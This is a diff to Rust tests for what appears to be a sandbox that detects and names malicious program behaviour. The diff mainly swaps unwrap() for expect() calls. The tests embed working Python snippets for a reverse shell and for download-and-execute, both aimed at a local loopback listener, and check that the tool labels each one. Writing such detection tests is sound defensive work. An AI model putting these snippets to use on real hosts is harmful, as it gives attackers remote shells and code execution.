@@ -46,11 +46,16 @@ fn a_burst_of_questions_is_discovery() {
 
 /// Somebody on the host who says this to the first who calls, and hears the answer.
 fn says(what: &'static str) -> (String, std::thread::JoinHandle<String>) {
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let address = listener.local_addr().unwrap().to_string();
+    let listener = TcpListener::bind("127.0.0.1:0").expect("a socket of loopback works");
+    let address = listener
+        .local_addr()
+        .expect("a socket of loopback works")
+        .to_string();
     let told = std::thread::spawn(move || {
-        let (mut caller, _) = listener.accept().unwrap();
-        caller.write_all(what.as_bytes()).unwrap();
+        let (mut caller, _) = listener.accept().expect("a socket of loopback works");
+        caller
+            .write_all(what.as_bytes())
+            .expect("a socket of loopback works");
         let mut answer = String::new();
         // A jail that is killed breaks the connection.
         let _ = caller.read_to_string(&mut answer);
@@ -62,21 +67,34 @@ fn says(what: &'static str) -> (String, std::thread::JoinHandle<String>) {
 #[test]
 fn a_shell_on_a_connection_is_a_reverse_shell() {
     let (address, told) = says("echo $((6 * 7))\nexit\n");
-    let port = address.split(':').nth(1).unwrap().to_owned();
+    let port = address
+        .split(':')
+        .nth(1)
+        .expect("a socket of loopback works")
+        .to_owned();
     let program = "import os, socket
 s = socket.create_connection(('127.0.0.1', PORT))
 for n in range(3): os.dup2(s.fileno(), n)
 os.execv('/bin/sh', ['sh'])";
     let run = observed().option(&format!("--allow {address}"));
     let ran = run.python(&program.replace("PORT", &port));
-    ran.expect(told.join().unwrap().contains("42"), "it obeyed");
+    ran.expect(
+        told.join()
+            .expect("a socket of loopback works")
+            .contains("42"),
+        "it obeyed",
+    );
     is_named(&ran, "reverse-shell");
 }
 
 #[test]
 fn what_came_over_the_network_and_runs_is_download_and_execute() {
     let (address, told) = says("#!/bin/sh\necho it ran\n");
-    let port = address.split(':').nth(1).unwrap().to_owned();
+    let port = address
+        .split(':')
+        .nth(1)
+        .expect("a socket of loopback works")
+        .to_owned();
     let program = "import os, socket
 s = socket.create_connection(('127.0.0.1', PORT))
 open('fetched', 'wb').write(s.recv(100))
@@ -85,7 +103,7 @@ os.chmod('fetched', 0o755)
 os.system('./fetched')";
     let run = observed().option(&format!("--allow {address}"));
     let ran = run.python(&program.replace("PORT", &port));
-    told.join().unwrap();
+    told.join().expect("a socket of loopback works");
     ran.expect(ran.stdout.contains("it ran"), "it ran");
     is_named(&ran, "download-execute");
 }
